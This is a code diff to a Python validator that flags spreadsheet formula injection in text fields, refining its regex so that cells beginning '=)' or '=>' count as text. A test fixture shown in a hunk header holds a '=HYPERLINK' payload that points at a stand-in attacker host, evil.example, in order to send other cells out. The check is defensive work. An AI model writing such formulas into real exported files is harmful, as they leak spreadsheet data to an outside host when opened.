@@ -1,10 +1,10 @@
 """A cell begins like the formula of a spreadsheet.
 
 ## What it finds
-Cells of text fields that a spreadsheet would compute: those that begin with `=`; with `+` or `-` before a function, a
-command, a reference to a cell or a sum (`+A1`, `-2+3`); with `@` before a function (`@SUM(1)`); all of these after tabs
-or line ends, too. Numbers, dates, telephone numbers (`+7 4212 32-02-01`), a hyphen before a word (`-stan`) and names
-like `@kremlin` are none.
+Cells of text fields that a spreadsheet would compute: those that begin with `=` (but `=)` and `=>` are texts);
+with `+` or `-` before a function, a command, a reference to a cell or a sum (`+A1`, `-2+3`); with `@` before a function
+(`@SUM(1)`); all of these after tabs or line ends, too. Numbers, dates, telephone numbers (`+7 4212 32-02-01`), a hyphen
+before a word (`-stan`) and names like `@kremlin` are none.
 
 ## Why it matters
 Who opens the file in a spreadsheet sees the result instead of the text, and a formula can send the other cells to a
@@ -32,7 +32,8 @@ FAILS = package(events=('event_id,place\na,"=HYPERLINK(""http://evil.example/?""
 FUNCTION, COMMAND, JOINED = r".*[A-Za-z_.]\(.*", r".*\|.*", r'\s*".*'
 CELL, SUM = r"\s*\$?[A-Za-z]{1,3}\$?[0-9]{1,7}\b.*", r"[\d\s.,()]*\d\s*[+*^]\s*[\d(A-Za-z$].*"
 SIGNED = f"{FUNCTION}|{COMMAND}|{JOINED}|{CELL}|{SUM}"  # what makes a formula of a text that begins with a sign
-FORMULA = rf"(?s)[\t\r\n]*(=\s*[^=\s].*|[+-]({SIGNED})|@\s*[A-Za-z_.]+\(.*)"
+NO_START = r")\]}>?,;:*/^&~|<"  # with which no formula goes on: `=)` and `=>` are texts
+FORMULA = rf"(?s)[\t\r\n]*(=\s*[^=\s{NO_START}].*|[+-]({SIGNED})|@\s*[A-Za-z_.]+\(.*)"
 
 
 def rules(table: Table) -> Iterator[Rule]:
